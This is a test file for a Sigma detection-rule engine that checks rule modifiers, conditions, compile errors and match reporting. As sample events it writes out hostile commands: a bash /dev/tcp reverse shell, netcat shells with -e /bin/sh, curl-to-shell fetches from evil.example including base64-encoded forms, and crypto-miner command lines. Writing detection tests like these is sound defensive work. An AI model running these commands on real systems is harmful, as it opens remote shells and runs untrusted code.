import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileRules } from './engine.ts';
import { skeletonEvent, type Category } from './field-map.ts';
import { parseSigmaRule } from './parse.ts';
import type { RuleError } from './types.ts';

type Rec = Record<string, unknown>;

function ruleText(detection: string, category: string, extra = ''): string {
  return `title: test rule\nid: r-1\n${extra}logsource:\n  product: linux\n  category: ${category}\ndetection:\n${detection}`;
}

/** A matcher for one rule; checks that the indexed and the naive engine always agree. */
function rule(detection: string, category: Category = 'process_creation'): (event: unknown) => boolean {
  const p = parseSigmaRule(ruleText(detection, category), 't.yml');
  assert.ok(p.ok, p.ok ? '' : p.error.reason);
  const fast = compileRules([p.rule]);
  const slow = compileRules([p.rule], { index: false });
  assert.deepEqual(fast.errors, []);
  return (event) => {
    const a = fast.engine.match(event).length > 0;
    assert.equal(slow.engine.match(event).length > 0, a, 'indexed and naive engines disagree');
    return a;
  };
}

function compileError(detection: string, category = 'process_creation'): RuleError {
  const p = parseSigmaRule(ruleText(detection, category), 't.yml');
  if (!p.ok) return p.error;
  const { errors, compiled } = compileRules([p.rule]);
  assert.equal(compiled.length, 0);
  assert.equal(errors.length, 1);
  return errors[0] as RuleError;
}

const proc = (p: Rec): Rec => ({ ...skeletonEvent('process_creation'), process: { entity_id: 'e1', pid: 100, ...p } });
const cmd = (command_line: string, executable = '/usr/bin/bash'): Rec => proc({ command_line, executable });
const net = (destination: Rec, extra: Rec = {}): Rec => ({
  ...skeletonEvent('network_connection'),
  destination,
  network: { transport: 'tcp', type: 'ipv4', direction: 'egress' },
  process: { pid: 5, executable: '/usr/bin/curl' },
  ...extra,
});
const file = (path: string, type = 'creation'): Rec => {
  const e = skeletonEvent('file_event');
  return { ...e, event: { ...(e['event'] as Rec), type: [type] }, file: { path }, process: { pid: 7, executable: '/usr/bin/vim' } };
};

void test('contains / startswith / endswith are case-insensitive by default, exact unless wildcards', () => {
  const m = rule('  sel:\n    Image|endswith: /BASH\n    CommandLine|contains: /Dev/TCP/\n  condition: sel\n');
  assert.ok(m(cmd('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '/usr/bin/bash')));
  assert.ok(!m(cmd('bash -i', '/usr/bin/bash')));
  assert.ok(!m(cmd('/dev/tcp/x', '/usr/bin/bash2')));
  const s = rule('  sel:\n    CommandLine|startswith: "sudo "\n  condition: sel\n');
  assert.ok(s(cmd('SUDO ls')));
  assert.ok(!s(cmd('xsudo ls')));
  const exact = rule('  sel:\n    Image: /usr/bin/nc\n  condition: sel\n');
  assert.ok(exact(cmd('nc', '/USR/BIN/NC')));
  assert.ok(!exact(cmd('nc', '/usr/bin/ncat')));
});

void test('cased makes matching case-sensitive', () => {
  const m = rule('  sel:\n    CommandLine|cased|contains: " -O "\n  condition: sel\n');
  assert.ok(m(cmd('wget -O /tmp/x')));
  assert.ok(!m(cmd('wget -o /tmp/x')));
});

void test('wildcards * and ? with backslash escapes', () => {
  const m = rule('  sel:\n    CommandLine: "chmod ?777 *"\n  condition: sel\n');
  assert.ok(m(cmd('chmod 0777 /tmp/x')));
  assert.ok(m(cmd('CHMOD a777 ')));
  assert.ok(!m(cmd('chmod 777 /tmp/x')));
  const lit = rule('  sel:\n    CommandLine|contains: "rm \\\\* -rf"\n  condition: sel\n');
  assert.ok(lit(cmd('sudo rm * -rf')));
  assert.ok(!lit(cmd('sudo rm x -rf')));
  const q = rule('  sel:\n    CommandLine|endswith: "what\\\\?"\n  condition: sel\n');
  assert.ok(q(cmd('echo what?')));
  assert.ok(!q(cmd('echo whatx')));
  const bs = rule("  sel:\n    CommandLine|contains: 'C:\\Windows\\'\n  condition: sel\n");
  assert.ok(bs(cmd('wine C:\\Windows\\cmd.exe')));
  const dbl = rule("  sel:\n    CommandLine|endswith: 'dir\\\\'\n  condition: sel\n");
  assert.ok(dbl(cmd('ls dir\\')));
});

void test('all requires every value; lists are OR otherwise', () => {
  const all = rule("  sel:\n    CommandLine|contains|all: ['curl', '| sh']\n  condition: sel\n");
  assert.ok(all(cmd('curl http://x | sh')));
  assert.ok(!all(cmd('curl http://x')));
  const any = rule("  sel:\n    CommandLine|contains: ['curl', 'wget']\n  condition: sel\n");
  assert.ok(any(cmd('wget x')));
  assert.ok(!any(cmd('fetch x')));
});

void test('re is case-sensitive; re|i, re|m and re|s set flags; (?i) prefix accepted', () => {
  const m = rule("  sel:\n    CommandLine|re: '\\s-[FTd]\\s'\n  condition: sel\n");
  assert.ok(m(cmd('curl -T file http://x')));
  assert.ok(!m(cmd('curl -t file http://x')));
  const i = rule("  sel:\n    CommandLine|re|i: 'NC\\s+-E'\n  condition: sel\n");
  assert.ok(i(cmd('nc -e /bin/sh')));
  const ml = rule("  sel:\n    CommandLine|re|m: '^second$'\n  condition: sel\n");
  assert.ok(ml(cmd('first\nsecond\nthird')));
  const noMl = rule("  sel:\n    CommandLine|re: '^second$'\n  condition: sel\n");
  assert.ok(!noMl(cmd('first\nsecond\nthird')));
  const s = rule("  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel\n");
  assert.ok(s(cmd('a\nb')));
  const inline = rule("  sel:\n    CommandLine|re: '(?i)abc'\n  condition: sel\n");
  assert.ok(inline(cmd('xABCx')));
});

void test('base64 and base64offset find encoded values at any alignment', () => {
  const secret = 'curl http://evil.example/x | sh';
  const b = rule(`  sel:\n    CommandLine|base64|contains: '${secret}'\n  condition: sel\n`);
  assert.ok(b(cmd(`echo ${Buffer.from(secret).toString('base64')} | base64 -d | bash`)));
  assert.ok(!b(cmd(`echo ${secret}`)));
  const off = rule(`  sel:\n    CommandLine|base64offset|contains: '${secret}'\n  condition: sel\n`);
  for (const pre of ['', 'a', 'ab', 'abc', 'abcd']) {
    const enc = Buffer.from(`${pre}${secret}tail`).toString('base64');
    assert.ok(off(cmd(`echo ${enc} | base64 -d | sh`)), `prefix '${pre}'`);
  }
  assert.ok(!off(cmd(`echo ${Buffer.from('harmless text here').toString('base64')}`)));
  const both = rule("  sel:\n    CommandLine|base64offset|contains|all: ['first secret', 'second secret']\n  condition: sel\n");
  assert.ok(both(cmd(`x ${Buffer.from('ab first secret and the second secret').toString('base64')}`)));
  assert.ok(both(cmd(`x ${Buffer.from('first secret second secret').toString('base64')}`)));
  assert.ok(!both(cmd(`x ${Buffer.from('first secret only').toString('base64')}`)));
  const wide = rule("  sel:\n    CommandLine|wide|base64offset|contains: 'iex'\n  condition: sel\n");
  assert.ok(wide(cmd(`pwsh -enc ${Buffer.from('xiex(', 'utf16le').toString('base64')}`)));
});

void test('windash matches -, /, and unicode dashes at word starts', () => {
  const m = rule("  sel:\n    CommandLine|windash|contains: ' -e '\n  condition: sel\n");
  for (const d of ['-', '/', '\u2013', '\u2014', '\u2015']) assert.ok(m(cmd(`nc ${d}e /bin/sh`)), d);
  assert.ok(!m(cmd('nc +e /bin/sh')));
  const all = rule("  sel:\n    CommandLine|windash|contains|all: [' -e ', ' -p ']\n  condition: sel\n");
  assert.ok(all(cmd('nc /e /bin/sh \u2013p 4444')));
  assert.ok(all(cmd('nc -e /bin/sh -p 4444')));
  assert.ok(!all(cmd('nc /e /bin/sh 4444')));
});

void test('cidr matches IPv4 and IPv6 networks', () => {
  const m = rule("  sel:\n    DestinationIp|cidr: ['10.0.0.0/8', '192.168.1.0/24', 'fc00::/7', '::1/128']\n  condition: sel\n", 'network_connection');
  assert.ok(m(net({ ip: '10.200.3.4' })));
  assert.ok(m(net({ ip: '192.168.1.77' })));
  assert.ok(!m(net({ ip: '192.168.2.1' })));
  assert.ok(m(net({ ip: 'fd12:3456::1' })));
  assert.ok(m(net({ ip: '::1' })));
  assert.ok(!m(net({ ip: '2001:db8::1' })));
  assert.ok(!m(net({ ip: 'not-an-ip' })));
  const v4mapped = rule("  sel:\n    DestinationIp|cidr: '::ffff:0:0/96'\n  condition: sel\n", 'network_connection');
  assert.ok(v4mapped(net({ ip: '::ffff:10.1.2.3' })));
});

void test('exists, null, numbers and numeric comparisons', () => {
  const ex = rule('  sel:\n    ParentImage|exists: false\n  condition: sel\n');
  assert.ok(ex(cmd('x')));
  assert.ok(!ex(proc({ executable: '/x', parent: { executable: '/sbin/init' } })));
  const exT = rule('  sel:\n    ParentImage|exists: true\n  condition: sel\n');
  assert.ok(exT(proc({ executable: '/x', parent: { executable: '/sbin/init' } })));
  const nul = rule('  sel:\n    Image|endswith: /sh\n    CommandLine: null\n  condition: sel\n');
  assert.ok(nul(proc({ executable: '/bin/sh' })));
  assert.ok(nul(proc({ executable: '/bin/sh', command_line: '' })));
  assert.ok(!nul(proc({ executable: '/bin/sh', command_line: 'sh -c id' })));
  const port = rule('  sel:\n    DestinationPort: [4444, 1337]\n  condition: sel\n', 'network_connection');
  assert.ok(port(net({ ip: '1.2.3.4', port: 4444 })));
  assert.ok(!port(net({ ip: '1.2.3.4', port: 44444 })));
  const lt = rule('  sel:\n    DestinationPort|lt: 1024\n  condition: sel\n', 'network_connection');
  assert.ok(lt(net({ ip: '1.2.3.4', port: 80 })));
  assert.ok(!lt(net({ ip: '1.2.3.4', port: 1024 })));
  assert.ok(!lt(net({ ip: '1.2.3.4' })));
  const gte = rule('  sel:\n    ProcessId|gte: 1000\n  condition: sel\n');
  assert.ok(gte(proc({ pid: 1000 })));
  assert.ok(!gte(proc({ pid: 999 })));
});

void test('fieldref compares two fields of the same event', () => {
  const m = rule('  sel:\n    Image|fieldref: ParentImage\n  condition: sel\n');
  assert.ok(m(proc({ executable: '/usr/bin/x', parent: { executable: '/USR/BIN/X' } })));
  assert.ok(!m(proc({ executable: '/usr/bin/x', parent: { executable: '/usr/bin/y' } })));
  assert.ok(!m(proc({ executable: '/usr/bin/x' })));
  const sw = rule('  sel:\n    CommandLine|fieldref|startswith: Image\n  condition: sel\n');
  assert.ok(sw(proc({ executable: '/tmp/a', command_line: '/tmp/a --x' })));
});

void test('keyword searches match anywhere in the event text; |all needs every keyword', () => {
  const m = rule("  keywords:\n    - 'xmrig'\n    - 'stratum+tcp://*:3333'\n  condition: keywords\n");
  assert.ok(m(cmd('./XMRig -o pool')));
  assert.ok(m(proc({ executable: '/opt/xmrig/xmrig' })));
  assert.ok(m(cmd('miner -o stratum+tcp://pool.example:3333 -u x')));
  assert.ok(!m(cmd('ls -la')));
  const all = rule("  keywords:\n    '|all': ['nc', '-e']\n  condition: keywords\n");
  assert.ok(all(cmd('nc -e /bin/sh 1.2.3.4 4444')));
  assert.ok(!all(cmd('nc 1.2.3.4 4444')));
});

void test('conditions: and / or / not / 1 of / all of / them', () => {
  const m = rule(
    "  selection_a:\n    Image|endswith: /curl\n  selection_b:\n    CommandLine|contains: '| sh'\n  filter_main_local:\n    CommandLine|contains: localhost\n  condition: all of selection_* and not 1 of filter_main_*\n",
  );
  assert.ok(m(cmd('curl http://x | sh', '/usr/bin/curl')));
  assert.ok(!m(cmd('curl http://localhost | sh', '/usr/bin/curl')));
  assert.ok(!m(cmd('curl http://x', '/usr/bin/curl')));
  const them = rule("  a:\n    Image|endswith: /nc\n  b:\n    Image|endswith: /ncat\n  condition: 1 of them\n");
  assert.ok(them(cmd('', '/bin/ncat')));
  const paren = rule("  a:\n    Image|endswith: /a\n  b:\n    Image|endswith: /b\n  c:\n    CommandLine|contains: go\n  condition: (a or b) and c\n");
  assert.ok(paren(cmd('go', '/x/b')));
  assert.ok(!paren(cmd('stop', '/x/b')));
  const list = rule('  a:\n    Image|endswith: /a\n  b:\n    Image|endswith: /b\n  condition:\n    - a\n    - b\n');
  assert.ok(list(cmd('', '/b')));
});

void test('process fields: args fall back to command_line; parent, user, cwd, env vars, hashes', () => {
  const m = rule("  sel:\n    CommandLine|contains: '-e /bin/sh'\n  condition: sel\n");
  assert.ok(m(proc({ args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] })));
  const p = rule(
    "  sel:\n    ParentImage|endswith: /nginx\n    ParentCommandLine|contains: worker\n    User: www-data\n    CurrentDirectory|startswith: /var/www\n  condition: sel\n",
  );
  assert.ok(p(proc({ executable: '/bin/sh', user: { name: 'www-data' }, working_directory: '/var/www/html', parent: { executable: '/usr/sbin/nginx', args: ['nginx:', 'worker', 'process'] } })));
  assert.ok(!p(proc({ executable: '/bin/sh', user: { name: 'root' }, working_directory: '/var/www/html', parent: { executable: '/usr/sbin/nginx', args: ['nginx:', 'worker'] } })));
  const env = rule("  sel:\n    EnvVars|startswith: 'LD_PRELOAD='\n  condition: sel\n");
  assert.ok(env(proc({ env_vars: ['HOME=/root', 'LD_PRELOAD=/tmp/x.so'] })));
  assert.ok(!env(proc({ env_vars: ['HOME=/root'] })));
  const h = 'ab'.repeat(32);
  const hashes = rule(`  sel:\n    Hashes|contains: 'SHA256=${h}'\n  condition: sel\n`);
  assert.ok(hashes(proc({ hash: { sha256: h } })));
  const sha = rule(`  sel:\n    sha256: '${h.toUpperCase()}'\n  condition: sel\n`);
  assert.ok(sha(proc({ hash: { sha256: h } })));
  const ecs = rule("  sel:\n    process.working_directory: /tmp\n  condition: sel\n");
  assert.ok(ecs(proc({ working_directory: '/tmp' })));
});

void test('file and network categories read their own fields; events of another kind never match', () => {
  const f = rule("  sel:\n    TargetFilename|startswith: /etc/cron.d/\n  condition: sel\n", 'file_event');
  assert.ok(f(file('/etc/cron.d/evil')));
  assert.ok(f(file('/etc/cron.d/evil', 'rename')));
  assert.ok(!f(file('/etc/cron.d/evil', 'deletion')));
  assert.ok(!f(cmd('/etc/cron.d/evil')));
  const d = rule("  sel:\n    TargetFilename|endswith: .bash_history\n  condition: sel\n", 'file_delete');
  assert.ok(d(file('/root/.bash_history', 'deletion')));
  assert.ok(!d(file('/root/.bash_history')));
  const r = rule("  sel:\n    SourceFilename|startswith: /tmp/\n    TargetFilename|startswith: /usr/bin/\n  condition: sel\n", 'file_rename');
  assert.ok(r({ ...file('/usr/bin/ls', 'rename'), file: { path: '/usr/bin/ls', Ext: { original: { path: '/tmp/ls' } } } }));
  const n = rule("  sel:\n    DestinationHostname|endswith: .ngrok.io\n    Initiated: 'true'\n  condition: sel\n", 'network_connection');
  assert.ok(n(net({ ip: '3.3.3.3', domain: 'abc.NGROK.io' })));
  assert.ok(!n(net({ ip: '3.3.3.3', domain: 'abc.ngrok.io' }, { network: { transport: 'tcp', type: 'ipv4', direction: 'ingress' } })));
  const v6 = rule("  sel:\n    DestinationIsIpv6: 'true'\n    Protocol: tcp\n  condition: sel\n", 'network_connection');
  assert.ok(v6(net({ ip: '2001:db8::1' }, { network: { transport: 'tcp', type: 'ipv6', direction: 'egress' } })));
  assert.ok(!v6(net({ ip: '192.0.2.1' })));
  const q = rule("  sel:\n    QueryName|endswith: .onion\n  condition: sel\n", 'dns_query');
  assert.ok(q({ ...skeletonEvent('dns_query'), dns: { question: { name: 'x.onion', type: 'A' } } }));
});

void test('events with missing or odd fields do not match and do not crash', () => {
  const any = rule("  sel:\n    Image|endswith: /bash\n  filter:\n    CommandLine|re: 'a'\n  condition: sel and not filter\n");
  const odd: unknown[] = [
    null,
    undefined,
    42,
    'string',
    [],
    {},
    { event: null },
    { event: { dataset: 'yamori.process', type: 'start' } },
    { event: { dataset: 'yamori.process', type: ['start'] } },
    { event: { dataset: 'yamori.process', type: ['start'] }, process: null },
    { event: { dataset: 'yamori.process', type: ['start'] }, process: { executable: 7, command_line: ['a'], args: 'x' } },
    { event: { dataset: 'yamori.process', type: ['start'] }, process: { executable: { a: 1 } } },
  ];
  for (const e of odd) assert.equal(any(e), false);
  assert.ok(any({ event: { dataset: 'yamori.process', type: ['start'] }, process: { executable: '/bin/bash' } }));
});

void test('compile errors name the reason and the line', () => {
  const unknown = compileError('  sel:\n    Imagee|endswith: /bash\n  condition: sel\n');
  assert.equal(unknown.reason, 'unknown field Imagee for category process_creation');
  assert.equal(unknown.line, 8);
  assert.equal(unknown.ruleId, 'r-1');
  assert.match(compileError('  sel:\n    OriginalFileName: x.exe\n  condition: sel\n').reason, /unsupported field OriginalFileName: PE version/);
  assert.match(compileError("  sel:\n    CommandLine|re: '(['\n  condition: sel\n").reason, /invalid regular expression/);
  assert.match(compileError("  sel:\n    CommandLine|re|contains: 'x'\n  condition: sel\n").reason, /re cannot be combined with contains/);
  assert.match(compileError("  sel:\n    CommandLine|i: 'x'\n  condition: sel\n").reason, /only valid with re/);
  assert.match(compileError("  sel:\n    DestinationIp|cidr: '10.0.0.0/33'\n  condition: sel\n", 'network_connection').reason, /prefix length/);
  assert.match(compileError('  sel:\n    Image|exists: maybe\n  condition: sel\n').reason, /exists needs true or false/);
  assert.match(compileError('  sel:\n    Image|lt: abc\n  condition: sel\n').reason, /lt needs a number/);
  assert.match(compileError('  sel:\n    Image|fieldref: Nope\n  condition: sel\n').reason, /fieldref: unknown field Nope/);
  assert.match(compileError('  sel:\n    Image: x\n  condition: sel and other\n').reason, /condition: condition references undefined search 'other'/);
  assert.match(compileError('  sel:\n    Image: x\n  condition: sel | count() > 3\n').reason, /aggregations/);
  assert.match(compileError('  sel:\n    TargetFilename: x\n  condition: sel\n').reason, /unknown field TargetFilename/);
  const svc = parseSigmaRule(
    'title: t\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  sel:\n    type: EXECVE\n  condition: sel\n',
    'a.yml',
  );
  assert.ok(svc.ok);
  const e = compileRules([svc.rule]).errors[0];
  assert.match(e?.reason ?? '', /unsupported logsource: service auditd/);
  assert.equal(e?.category, 'service:auditd');
  assert.match(compileError('  sel:\n    Image: x\n  condition: sel\n', 'registry_event').reason, /unsupported logsource: category registry_event/);
});

void test('a pack keeps the good rules and reports the bad and duplicate ones', () => {
  const good = parseSigmaRule(ruleText('  sel:\n    Image: /x\n  condition: sel\n', 'process_creation'), 'a.yml');
  const dup = parseSigmaRule(ruleText('  sel:\n    Image: /y\n  condition: sel\n', 'process_creation'), 'b.yml');
  const bad = parseSigmaRule(ruleText('  sel:\n    Nope: /y\n  condition: sel\n', 'process_creation').replace('r-1', 'r-2'), 'c.yml');
  assert.ok(good.ok && dup.ok && bad.ok);
  const { compiled, errors } = compileRules([good.rule, dup.rule, bad.rule]);
  assert.equal(compiled.length, 1);
  assert.deepEqual(
    errors.map((e) => [e.file, e.reason]),
    [
      ['b.yml', 'duplicate rule id r-1 (already loaded from a.yml)'],
      ['c.yml', 'unknown field Nope for category process_creation'],
    ],
  );
});

void test('matches report level, tags, ATT&CK techniques and yamori response actions', () => {
  const text = ruleText(
    '  sel:\n    Image|endswith: /xmrig\n  condition: sel\n',
    'process_creation',
    'level: critical\ntags:\n  - attack.impact\n  - attack.t1496\n  - attack.T1059.004\n  - cve.2021-1234\nyamori:\n  response: [kill_process]\n',
  );
  const p = parseSigmaRule(text, 'm.yml');
  assert.ok(p.ok);
  const [hit] = compileRules([p.rule]).engine.match(cmd('', '/tmp/xmrig'));
  assert.deepEqual(hit, {
    id: 'r-1',
    title: 'test rule',
    level: 'critical',
    tags: ['attack.impact', 'attack.t1496', 'attack.T1059.004', 'cve.2021-1234'],
    techniques: ['T1496', 'T1059.004'],
    response: ['kill_process'],
    file: 'm.yml',
  });
});
